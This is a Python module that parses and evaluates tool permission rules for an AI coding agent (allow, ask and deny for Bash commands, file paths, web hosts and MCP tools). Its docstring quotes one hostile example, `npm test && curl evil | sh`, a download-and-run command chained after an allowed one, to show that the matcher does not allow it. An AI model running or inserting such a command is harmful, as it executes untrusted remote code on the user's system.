"""Permission rules in Claude Code's syntax (its `permissions` block), matched as Claude Code documents.

A rule is `Tool` (any input of that tool) or `Tool(specifier)`:

- `Bash(npm run test)` is one exact command; `Bash(npm run test:*)` a prefix ending at a word
  boundary (`npm run test`, `npm run test --watch`, never `npm run tests`); a `*` anywhere matches
  any run of characters (`Bash(git * main)`), and a pattern whose one `*` is a trailing ` *` also
  matches without it (`Bash(ls *)` matches `ls`, never `lsof`).
- A compound command (`&&`, `||`, `;`, `|`, `&`, newlines, `( )`, `$(...)`, backticks, `<(...)`) is
  cut into its commands, quotes respected. An allow needs EVERY command allowed (by one rule or
  several), so `Bash(npm test:*)` never allows `npm test && curl evil | sh`; a deny or an ask takes
  ANY command it matches, and reaches through leading `VAR=value` assignments and the wrappers
  `sudo`, `nohup`, `time`, `nice`, `command`, `exec`, `env` and `timeout <n>`. A command an exact
  rule names whole (`Bash(make && make install)`) matches that rule as written. A command the
  cutter cannot read (an unbalanced quote or parenthesis) is allowed only by an exact rule or by
  `Bash`; deny and ask then look at it whole and at its pieces between operator characters.
  Arithmetic `$((...))` counts as a substitution; a here-document's lines count as commands.
- `Read(...)`, `Edit(...)` (every editing tool: Edit, MultiEdit, Write, NotebookEdit), `Write(...)`,
  `MultiEdit(...)` and `NotebookEdit(...)` take gitignore patterns: `//abs/path` from the filesystem
  root, `~/path` from the home directory, `/path` and `./path` from the project root, and `path`
  relative to the project root (anchored when it holds a `/`, at any depth otherwise, as in
  gitignore). `*` and `?` stay within one directory, `**` crosses them, `[abc]` is a class, a
  trailing `/` names a directory; a pattern naming a directory covers everything under it. Without
  a project, project-relative rules match nothing; negation (`!`) and `..` are refused.
- `WebFetch(domain:example.com)` matches that host exactly (not `www.example.com`);
  `WebFetch(domain:*.example.com)` matches its subdomains at any depth (not `example.com` itself).
- `mcp__server` (or `mcp__server__*`) matches every tool of that server, `mcp__server__tool` one.
- `Tool(*)` and `Tool()` are `Tool`. Rules are evaluated deny, then ask, then allow; within each,
  the first matching rule (in the order given) decides, whatever its specificity.

Inside the parentheses a backslash escapes the next `\\`, `(` or `)` (Claude Code writes rules so);
a `\\` before anything else stays as written. In a `Bash` specifier, `\\*` is a literal asterisk
and `\\\\` a literal backslash: `Bash(ls \\*.py)` is the exact command `ls *.py`;
a leading `\\=` is a literal `=` (an exact command starting with one). A canonical
rule (`RulePattern.text`) escapes only what would otherwise be read differently.

Our extension, for the rules remembered before these patterns existed: `Tool(=<json>)` matches
exactly the input whose canonical JSON (sorted keys, no spaces) is `<json>`, for any tool.

Here: the parsed rule (`RulePattern`) and many rules compiled for matching (`RuleSet`, `decide`).
Reading a rule's text and a settings block is `rule_syntax`; what the parentheses compare,
`rule_specifiers`; what a tool call is matched on, `rule_subjects` (and `shell_split` for a
compound command); the rules offered to a person, `rule_suggestions`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from enum import Enum, StrEnum
from functools import cached_property
from typing import Any

from backend.domain.rule_specifiers import PathRoot, PatternError, render_specifier
from backend.domain.rule_subjects import CallSubjects

__all__ = [
    "PATH_RULE_TOOLS",
    "PATH_TOOLS",
    "Behavior",
    "PathRoot",
    "PatternError",
    "PatternKind",
    "RulePattern",
    "RuleSet",
    "decide",
]


class Behavior(StrEnum):
    ALLOW = "allow"
    ASK = "ask"
    DENY = "deny"


class PatternKind(Enum):
    ANY = "any"  # the bare tool
    MCP_SERVER = "mcp_server"  # every tool of one MCP server
    EXACT_INPUT = "exact_input"  # Tool(=<json>)
    COMMAND = "command"  # Bash exact
    COMMAND_PATTERN = "command_pattern"  # Bash prefix or wildcard
    PATH = "path"
    HOST = "host"  # WebFetch exact host
    HOST_PATTERN = "host_pattern"  # WebFetch *.host or *


# The tools a path rule of each name covers (Claude Code: Edit rules apply to every editing tool).
PATH_RULE_TOOLS: dict[str, tuple[str, ...]] = {
    "Read": ("Read",),
    "Edit": ("Edit", "MultiEdit", "Write", "NotebookEdit"),
    "Write": ("Write",),
    "MultiEdit": ("MultiEdit",),
    "NotebookEdit": ("NotebookEdit",),
}
PATH_TOOLS = frozenset(t for tools in PATH_RULE_TOOLS.values() for t in tools)


@dataclass(frozen=True)
class RulePattern:
    """One parsed rule. `specifier` is the text inside the parentheses as read (escapes resolved),
    None for any input; `key` the literal an exact kind compares, `regex` the source a pattern kind
    matches (fully, DOTALL), `root` where a path rule starts."""

    tool: str
    specifier: str | None
    kind: PatternKind = field(compare=False)
    key: str = field(default="", compare=False, repr=False)
    regex: str = field(default="", compare=False, repr=False)
    root: PathRoot | None = field(default=None, compare=False, repr=False)

    @property
    def text(self) -> str:
        """The canonical rule: what `rule_syntax.export_settings` writes and `parse_pattern` reads back."""
        return self.tool if self.specifier is None else f"{self.tool}({render_specifier(self.specifier)})"

    def applies_to(self, tool_name: str) -> bool:
        if self.kind is PatternKind.MCP_SERVER:
            return tool_name.startswith(self.tool + "__")
        if self.kind is PatternKind.PATH:
            return tool_name in PATH_RULE_TOOLS[self.tool]
        return tool_name == self.tool

    @cached_property
    def _alone(self) -> RuleSet:
        return RuleSet.compile([(Behavior.ALLOW, self, None), (Behavior.DENY, self, None)])

    def matches(
        self,
        tool_name: str,
        tool_input: Mapping[str, Any],
        *,
        project: str | None,
        home: str | None,
        any_part: bool = False,
    ) -> bool:
        """Whether this rule covers the call: as an allow (every command of a compound `Bash`
        command matches) or, with `any_part`, as a deny or an ask does (any command matches)."""
        index = self._alone.index(Behavior.DENY if any_part else Behavior.ALLOW)
        return (
            index.first(CallSubjects(tool_name, tool_input, project, home), every_part=not any_part)
            is not None
        )


# --- many rules at once ---------------------------------------------------------------------------


@dataclass
class _Alternation:
    """Many rules' regexes as one: the first alternative that matches is the first rule in order."""

    regex: re.Pattern[str]
    positions: list[int]

    def first(self, subject: str) -> int | None:
        match = self.regex.fullmatch(subject)
        return None if match is None or match.lastindex is None else self.positions[match.lastindex - 1]


def _least(*found: int | None) -> int | None:
    return min((p for p in found if p is not None), default=None)


def _path_key(tool: str, root: PathRoot | None) -> str:
    return f"path {tool} {root.value if root else ''}"


class _Index:
    """One behavior's rules, by what they compare: a dict per exact kind, one regex per pattern kind."""

    def __init__(self) -> None:
        self.tools: dict[str, int] = {}
        self.servers: dict[str, int] = {}
        self.inputs: dict[tuple[str, str], int] = {}
        self.commands: dict[str, int] = {}
        self.hosts: dict[str, int] = {}
        self.sources: dict[str, list[tuple[str, int]]] = {}
        self.alternations: dict[str, _Alternation] = {}

    def add(self, position: int, pattern: RulePattern) -> None:
        kind = pattern.kind
        if kind in (PatternKind.ANY, PatternKind.MCP_SERVER):
            (self.tools if kind is PatternKind.ANY else self.servers).setdefault(pattern.tool, position)
        elif kind is PatternKind.EXACT_INPUT:
            self.inputs.setdefault((pattern.tool, pattern.key), position)
        elif kind is PatternKind.COMMAND:
            self.commands.setdefault(pattern.key, position)
        elif kind is PatternKind.HOST:
            self.hosts.setdefault(pattern.key, position)
        elif kind is PatternKind.PATH:
            for tool in PATH_RULE_TOOLS[pattern.tool]:
                self.sources.setdefault(_path_key(tool, pattern.root), []).append((pattern.regex, position))
        else:
            key = "command" if kind is PatternKind.COMMAND_PATTERN else "host"
            self.sources.setdefault(key, []).append((pattern.regex, position))

    def seal(self) -> None:
        for key, sources in self.sources.items():
            regex = re.compile("|".join(f"({source})" for source, _ in sources), re.DOTALL)
            self.alternations[key] = _Alternation(regex, [p for _, p in sources])

    def first(self, request: CallSubjects, *, every_part: bool) -> int | None:
        """The position of the first rule matching `request`; `every_part`: as an allow matches."""
        found = [self.tools.get(request.tool)]
        if request.server is not None:
            found.append(self.servers.get(request.server))
        if self.inputs and request.exact_input is not None:
            found.append(self.inputs.get((request.tool, request.exact_input)))
        if request.tool == "Bash":
            found.append(self._command(request, every_part))
        elif request.tool in PATH_TOOLS:
            for root, rel in request.paths:
                path_rules = self.alternations.get(_path_key(request.tool, root))
                found.append(path_rules.first(rel) if path_rules else None)
        elif request.tool == "WebFetch" and request.host is not None:
            hosts = self.alternations.get("host")
            found += [self.hosts.get(request.host), hosts.first(request.host) if hosts else None]
        return _least(*found)

    def _command(self, request: CallSubjects, every_part: bool) -> int | None:
        if request.command is None:
            return None
        patterns = self.alternations.get("command")
        if not every_part:
            hits = [self.commands.get(s) for s in request.loose]
            if patterns is not None:
                hits += [patterns.first(s) for s in request.loose]
            return _least(*hits)
        whole = self.commands.get(request.command)
        each: list[int] = []
        for part in request.parts or ():
            hit = _least(self.commands.get(part), patterns.first(part) if patterns else None)
            if hit is None:
                return whole
            each.append(hit)
        return _least(whole, min(each, default=None))


class RuleSet:
    """Rules compiled once for many decisions: `RuleSet.compile(rules).decide(...)`."""

    def __init__(self, handles: list[Any], indexes: dict[Behavior, _Index]) -> None:
        self.handles = handles
        self.indexes = indexes

    @classmethod
    def compile(cls, rules: Iterable[tuple[Behavior, RulePattern, Any]]) -> RuleSet:
        handles: list[Any] = []
        indexes = {behavior: _Index() for behavior in Behavior}
        for position, (behavior, pattern, handle) in enumerate(rules):
            handles.append(handle)
            indexes[Behavior(behavior)].add(position, pattern)
        for index in indexes.values():
            index.seal()
        return cls(handles, indexes)

    def __len__(self) -> int:
        return len(self.handles)

    def index(self, behavior: Behavior) -> _Index:
        return self.indexes[behavior]

    def decide(
        self, tool_name: str, tool_input: Mapping[str, Any], *, project: str | None, home: str | None
    ) -> tuple[Behavior, Any] | None:
        """Deny, then ask, then allow: the first rule of the first behavior that matches, and its
        handle; None when no rule matches (a person is asked, as without rules)."""
        request = CallSubjects(tool_name, tool_input, project, home)
        for behavior in (Behavior.DENY, Behavior.ASK, Behavior.ALLOW):
            position = self.indexes[behavior].first(request, every_part=behavior is Behavior.ALLOW)
            if position is not None:
                return behavior, self.handles[position]
        return None


def decide(
    rules: Sequence[tuple[Behavior, RulePattern, Any]],
    tool_name: str,
    tool_input: Mapping[str, Any],
    *,
    project: str | None,
    home: str | None,
) -> tuple[Behavior, Any] | None:
    """`RuleSet.compile(rules).decide(...)`, for one decision."""
    return RuleSet.compile(rules).decide(tool_name, tool_input, project=project, home=home)
